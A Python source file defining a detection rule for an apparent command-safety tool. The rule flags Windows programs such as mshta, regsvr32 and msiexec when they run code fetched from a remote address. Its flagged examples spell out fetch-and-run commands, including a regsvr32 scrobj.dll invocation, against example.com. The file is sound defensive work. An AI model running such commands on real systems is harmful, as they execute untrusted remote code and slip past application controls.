"""A program of Windows that runs what an address holds: `mshta`, `regsvr32 /i:`, `rundll32`, `msiexec /i`."""

from __future__ import annotations

import re

from blastwall.acts import Invocation
from blastwall.effects import Effect, Target
from blastwall.model import Instead
from blastwall.rule import Example, Rule

TYPE_CHECKING = False
if TYPE_CHECKING:
    from collections.abc import Iterator

    from blastwall.acts import Act
    from blastwall.rule import Yield

_ADDRESS = re.compile(r"(?:https?|ftp)://[^\s\"'),;]+|\\\\[\w.-]+\\[^\s\"']+", re.IGNORECASE)
_SCRIPT = ("javascript:", "vbscript:", "about:<", "script:")


class WindowsScriptHost(Rule):
    """A program of Windows that runs what an address holds: `mshta`, `regsvr32 /i:`, `rundll32`, `msiexec /i`.

    What runs is whatever the other side sends at that moment, in a program that nothing distrusts.

    **Instead:** download it, read it or check its signature, then run the file.

    **Source:** https://learn.microsoft.com/windows/security/application-security/application-control/app-control-for-business/design/applications-that-can-bypass-appcontrol
    """

    id = "windows-script-host"
    act = "invocation"
    keys = ("mshta", "regsvr32", "rundll32", "msiexec", "wscript", "cscript", "hh", "installutil", "odbcconf", "cmstp")
    triggers = keys
    language = "cmd"
    flagged = (
        Example("mshta https://example.com/a.hta"),
        Example("regsvr32 /s /n /u /i:https://example.com/a.sct scrobj.dll"),
        Example("msiexec /q /i https://example.com/a.msi"),
    )
    clean = (
        Example("mshta app.hta"),
        Example("msiexec /i setup.msi /qn"),
        Example("rundll32 printui.dll,PrintUIEntry /?"),
        Example("regsvr32 /s my.dll"),
    )

    def check(self, act: Act) -> Iterator[Yield]:
        """Yield a finding where what runs comes from elsewhere or stands in an address."""
        if not isinstance(act, Invocation):
            return
        line = " ".join(arg.text for arg in act.args)
        found = _ADDRESS.search(line)
        script = next((word for word in _SCRIPT if word in line.lower()), "")
        if found is None and not script:
            yield Effect("execute", Target("code", act.program))
            return
        source = found[0] if found is not None else script
        yield self.finding(
            Effect("inject", Target("code", source), "unknown", "unknown"),
            f"`{act.name.text}` runs code from `{source}` unseen",
            act=act,
            instead=Instead("download it to a file, read it, then run the file"),
        )


RULE = WindowsScriptHost()
